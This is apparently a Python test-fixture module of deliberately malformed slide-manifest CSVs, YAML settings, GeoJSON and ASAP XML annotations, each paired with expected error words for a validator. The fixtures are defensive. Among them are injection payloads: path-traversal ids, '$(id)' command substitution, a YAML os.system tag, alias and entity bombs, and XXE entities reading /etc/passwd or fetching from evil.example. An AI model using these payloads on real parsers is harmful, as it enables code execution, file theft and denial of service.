"""Tables, settings and drawings with one fault each, and the words that its error must have."""

from typing import Final, NamedTuple

GOOD_ROWS: Final = ("n0,normal", "n1,normal", "t0,tumor", "t1,tumor")


class Bad(NamedTuple):
    """One bad file."""

    name: str
    content: bytes
    words: tuple[str, ...]
    """Of the error's one line, besides the file's name."""


def _table(*lines: str, header: str = "slide_id,label,path") -> bytes:
    return "\n".join((header, *lines, "")).encode()


def _rows(*more: str, header: str = "slide_id,label,path", ending: str = "") -> bytes:
    """Four good rows, each with `ending`, and more."""
    good = (f"{row},{row.partition(',')[0]}.tif{ending}" for row in GOOD_ROWS)
    return _table(*good, *more, header=header)


_WITH_MPP: Final = "slide_id,label,path,slide_mpp"
_WITH_PARTS: Final = "slide_id,label,path,case_id,split"
_PARTS: Final = ("n0,normal,n0.tif,a,train", "t0,tumor,t0.tif,b,train", "n1,normal,n1.tif,c,test")

TABLES: Final = (
    Bad("NUL", _rows() + b"x\0,normal,n0.tif\n", ("line 6", "NUL")),
    Bad("UTF-16", _rows().decode().encode("utf-16"), ("UTF-16", "CSV UTF-8")),
    Bad("latin-1", _rows() + "gr\u00f6\u00dfe,tumor,t1.tif\n".encode("latin-1"), ("line 6", "not UTF-8")),
    Bad("zip", b"PK\x03\x04\x14\0\0\0", ("NUL byte",)),
    Bad("empty", b"", ("empty file", "header")),
    Bad("header alone", _table(), ("no slides",)),
    Bad("unclosed quote", _rows('"x,normal,n0.tif'), ("line 6", "quote")),
    Bad("short row", _rows("x,normal"), ("line 6",)),
    Bad("long row", _rows("x,normal,n0.tif,more,more"), ("line 6",)),
    Bad("column twice", _rows(header="slide_id,label,label"), ("label",)),
    Bad("semicolons", _rows().replace(b",", b";"), (";",)),
    Bad("no label column", _table("n0,n0.tif", header="slide_id,path"), ("label",)),
    Bad("misspelled column", _rows(header="slide_id,lable,path"), ("lable", "label")),
    Bad("10 MB field", _rows("x" * 10_000_000 + ",normal,n0.tif"), ("line 6",)),
    Bad("quoted newline", _rows('"a\nb",normal,n0.tif'), ("slide_id", "control")),
    Bad("id twice", _rows("n0,normal,n1.tif"), ("slide_id", "'n0' (line 2)", "'n0' (line 6)")),
    Bad("ids but for case", _rows("N0,normal,n1.tif"), ("slide_id", "'N0' (line 6)", "case")),
    Bad("ids but for form", _rows("\u00e9,normal,n1.tif", "e\u0301,normal,t1.tif"), ("slide_id", "(line 7)")),
    Bad("id climbs", _rows("../../x,normal,n1.tif"), ("slide_id", "line 6", "path separator")),
    Bad("id absolute", _rows("/etc/passwd,normal,n1.tif"), ("slide_id", "line 6", "path separator")),
    Bad("id with slash", _rows("a/b,normal,n1.tif"), ("slide_id", "line 6", "path separator")),
    Bad("id with backslash", _rows("a\\b,normal,n1.tif"), ("slide_id", "line 6", "path separator")),
    Bad("id empty", _rows(",normal,n1.tif"), ("slide_id", "line 6", "empty")),
    Bad("id a formula", _rows('"=HYPERLINK(""x"")",normal,n1.tif'), ("slide_id", "line 6", "'='")),
    Bad("id an option", _rows("-rf,normal,n1.tif"), ("slide_id", "line 6", "'-'")),
    Bad("id turned around", _rows("a\u202eb,normal,n1.tif"), ("slide_id", "line 6", "invisible")),
    Bad("id of 300 bytes", _rows("x" * 300 + ",normal,n1.tif"), ("slide_id", "line 6", "200 bytes")),
    Bad("id a table", _rows("predictions.csv,normal,n1.tif"), ("slide_id", "line 6", "infer writes")),
    Bad("label empty", _rows("x,,x.tif"), ("label", "6")),
    Bad("label NaN", _rows("x,NaN,x.tif"), ("label", "6")),
    Bad("label unseen", _rows("x,tumour,x.tif"), ("'tumour'", "line 6", "did you mean 'tumor'")),
    Bad("label but for case", _rows("x,Tumor,x.tif"), ("'Tumor'", "line 6", "did you mean 'tumor'")),
    Bad("label turned around", _rows("x,tu\u202emor,x.tif"), ("label", "invisible")),
    Bad("one class", _table("n0,normal,n0.tif", "n1,normal,n1.tif"), ("label", "tumor")),
    Bad(
        "mpp negative",
        _rows("x,normal,n1.tif,-1", header=_WITH_MPP, ending=","),
        ("line 6", "slide_mpp", "-1"),
    ),
    Bad("mpp zero", _rows("x,normal,n1.tif,0", header=_WITH_MPP, ending=","), ("line 6", "slide_mpp")),
    Bad("mpp NaN", _rows("x,normal,n1.tif,nan", header=_WITH_MPP, ending=","), ("line 6", "slide_mpp")),
    Bad(
        "mpp a word",
        _rows("x,normal,n1.tif,20x", header=_WITH_MPP, ending=","),
        ("line 6", "slide_mpp", "20x"),
    ),
    Bad(
        "mpp comma",
        _rows('x,normal,n1.tif,"0,25"', header=_WITH_MPP, ending=","),
        ("line 6", "slide_mpp", "0.25"),
    ),
    Bad(
        "mpp underscore", _rows("x,normal,n1.tif,1_0", header=_WITH_MPP, ending=","), ("line 6", "slide_mpp")
    ),
    Bad("no slide", _rows("x,normal,gone.tif"), ("path", "gone.tif")),
    Bad("slide a folder", _rows("x,normal,."), ("path", "no such file")),
    Bad("slide twice", _rows("x,normal,n0.tif"), ("path", "n0.tif", "several ids")),
    Bad("slide empty", _rows("x,normal,"), ("line 6", "path", "empty")),
    Bad("slide with NUL escape", _rows("x,normal,$(id).tif"), ("path", "$(id).tif")),
    Bad(
        "no drawing",
        _rows("x,normal,x.tif,gone.xml", header=f"{_WITH_MPP[:19]},annotation", ending=","),
        ("annotation", "gone.xml"),
    ),
    Bad(
        "unknown part",
        _table(*_PARTS, "t1,tumor,t1.tif,d,testing", header=_WITH_PARTS),
        ("line 5", "split", "'testing'", "test"),
    ),
    Bad(
        "case in two forms",
        _table(*_PARTS, "t1,tumor,t1.tif,A,test", header=_WITH_PARTS),
        ("case_id", "'A'", "'a'"),
    ),
)

SPLITS: Final = (
    Bad(
        "case in two parts",
        _table(*_PARTS, "t1,tumor,t1.tif,a,test", header=_WITH_PARTS),
        ("a", "train", "test"),
    ),
    Bad("class lacks in a part", _table(*_PARTS, "x,normal,x.tif,d,val", header=_WITH_PARTS), ("tumor",)),
)

_ALIASES: Final = b"run:\n  classes: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    b"  %c: &%c [%s]\n" % (98 + i, 98 + i, b",".join([b"*%c" % (97 + i)] * 9)) for i in range(8)
)

SETTINGS: Final = (
    Bad(
        "runs code",
        b"run: !!python/object/apply:os.system ['touch ran']\n",
        ("not valid YAML", "python/object"),
    ),
    Bad("builds an object", b"run: !!python/name:os.system\n", ("not valid YAML",)),
    Bad("alias bomb", _ALIASES, ("aliases", "100,000 values")),
    Bad("alias of itself", b"run: &a {title: *a}\n", ("run.title", "string")),
    Bad("long value", b"tile: " + b"x" * 100_000 + b"\n", ("tile: expected keys", "xxx...")),
    Bad("key twice", b"tile: {tile_px: 64}\ntile: {tile_px: 128}\n", ("line 2", "'tile'", "twice")),
    Bad("key twice below", b"tile:\n  tile_px: 64\n  tile_px: 128\n", ("line 3", "'tile_px'", "twice")),
    Bad("unknown section", b"tiles: {tile_px: 64}\n", ("'tiles'", "did you mean 'tile'")),
    Bad("unknown key", b"tile: {tile_pxs: 64}\n", ("'tile.tile_pxs'", "did you mean 'tile_px'")),
    Bad("negative", b"tile: {tile_px: -64}\n", ("tile.tile_px", "-64")),
    Bad("zero", b"tile: {tile_mpp: 0}\n", ("tile.tile_mpp", "0")),
    Bad("NaN", b"tile: {tile_mpp: .nan}\n", ("tile.tile_mpp", "nan")),
    Bad("infinity", b"train: {learning_rate: .inf}\n", ("train.learning_rate", "inf")),
    Bad("no is false", b"run: {title: no}\n", ("run.title", "False")),
    Bad("on is true", b"run: {title: on}\n", ("run.title", "True")),
    Bad("classes no and yes", b"run: {classes: [no, yes]}\n", ("run.classes", "False")),
    Bad("012 is ten", b"run: {classes: [012, 1]}\n", ("run.classes", "10")),
    Bad("a date", b"run: {title: 2024-01-01}\n", ("run.title", "2024")),
    Bad("true for number", b"train: {epochs: true}\n", ("train.epochs", "expected a number", "True")),
    Bad("word for number", b"train: {epochs: many}\n", ("train.epochs", "'many'")),
    Bad("fraction for count", b"train: {epochs: 1.5}\n", ("train.epochs", "1.5")),
    Bad("list for section", b"tile: [64]\n", ("tile", "[64]")),
    Bad("null for number", b"tile: {tile_px: null}\n", ("tile.tile_px", "None")),
    Bad("list at the top", b"- tile\n", ("expected sections", "list")),
    Bad("word at the top", b"tile\n", ("expected sections", "str")),
    Bad("two documents", b"tile: {tile_px: 64}\n---\nrun: {}\n", ("not valid YAML", "document")),
    Bad("tab", b"tile:\n\ttile_px: 64\n", ("not valid YAML", "line 2")),
    Bad("unclosed", b"tile: {tile_px: 64\n", ("not valid YAML", "line")),
    Bad("nested", b"[" * 1_000, ("not valid YAML", "nested")),
    Bad(
        "latin-1",
        "run: {title: x}\n# gr\u00f6\u00dfe\n".encode("latin-1"),
        ("line 2", "not UTF-8", "as UTF-8"),
    ),
    Bad("UTF-16", "run: {title: x}\n".encode("utf-16"), ("line 1", "not UTF-8")),
    Bad("NUL", b"run: {title: a\0b}\n", ("not valid YAML",)),
    Bad("unknown recipe", b"train: {recipes: [wenno]}\n", ("recipes", "'wenno'")),
    Bad(
        "manifest in no folder", b"run: {manifest: $(id)/slides.csv}\n", ("$(id)/slides.csv", "no such file")
    ),
)

_RING: Final = "[[0,0],[9,0],[9,9],[0,9],[0,0]]"


def _feature(coordinates: str, kind: str = "Polygon") -> bytes:
    geometry = f'{{"type":"{kind}","coordinates":{coordinates}}}'
    return f'{{"type":"Feature","geometry":{geometry},"properties":{{}}}}'.encode()


GEOJSON: Final = (
    Bad("empty", b"", ("not valid JSON",)),
    Bad("truncated", _feature(f"[{_RING}]")[:60], ("not valid JSON",)),
    Bad("UTF-16", _feature(f"[{_RING}]").decode().encode("utf-16"), ("not valid JSON",)),
    Bad("latin-1", b'{"type":"Feature","name":"gr\xf6\xdfe"}', ("not valid JSON",)),
    Bad("nested", b"[" * 100_000, ("not valid JSON",)),
    Bad("features null", b'{"type":"FeatureCollection","features":null}', ("`features` is no list",)),
    Bad("wrong type", _feature("[0,0]", "Circle"), ("'Circle'", "Polygon")),
    Bad("no geometry", b'{"type":"Feature","geometry":null}', ("feature 0", "None")),
    Bad("a number", b"7", ("feature 0",)),
    Bad("two corners", _feature("[[[0,0],[9,9]]]"), ("feature 0", "corners")),
    Bad("no area", _feature("[[[0,0],[9,9],[0,0],[0,0]]]"), ("feature 0",)),
    Bad("NaN", _feature("[[[0,0],[NaN,0],[9,9],[0,9],[0,0]]]"), ("feature 0",)),
    Bad("infinity", _feature("[[[0,0],[1e999,0],[9,9],[0,9],[0,0]]]"), ("feature 0",)),
    Bad("words", _feature('[[["a","b"],[9,0],[9,9],[0,0]]]'), ("feature 0",)),
    Bad("flat", _feature("[0,0,9,0,9,9]"), ("feature 0",)),
    Bad("no coordinates", b'{"type":"Feature","geometry":{"type":"Polygon"}}', ("feature 0",)),
)

_BOMB: Final = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]><ASAP_Annotations>&j;</ASAP_Annotations>"
).encode()


def _asap(coordinates: str) -> bytes:
    return (
        '<ASAP_Annotations><Annotations><Annotation Name="A0" PartOfGroup="Tumor" Type="Polygon">'
        f"<Coordinates>{coordinates}</Coordinates></Annotation></Annotations></ASAP_Annotations>"
    ).encode()


XML: Final = (
    Bad("entity bomb", _BOMB, ("entities", "refused")),
    Bad(
        "quadratic bomb",
        b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]><x>' + b"&a;" * 10_000 + b"</x>",
        ("entities",),
    ),
    Bad(
        "file entity",
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
        ("entities", "refused"),
    ),
    Bad(
        "parameter entity",
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><x/>',
        ("entities",),
    ),
    Bad("foreign DTD", b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', ("<x>", "ASAP_Annotations")),
    Bad("truncated", _asap("")[:40], ("not valid XML",)),
    Bad("nothing", b"<", ("not valid XML",)),
    Bad("nested", b"<a>" * 100_000, ("not valid XML",)),
    Bad("unknown root", b"<svg/>", ("<svg>", "ASAP_Annotations")),
    Bad("a word", _asap('<Coordinate Order="0" X="a" Y="1"/>'), ("'a'", "expected a number")),
    Bad("no corner", _asap(""), ("A0", "corners")),
    Bad(
        "two corners",
        _asap('<Coordinate Order="0" X="1" Y="1"/><Coordinate Order="1" X="2" Y="2"/>'),
        ("A0", "corners"),
    ),
    Bad("NaN", _asap("".join(f'<Coordinate Order="{i}" X="NaN" Y="{i}"/>' for i in range(4))), ("A0",)),
)
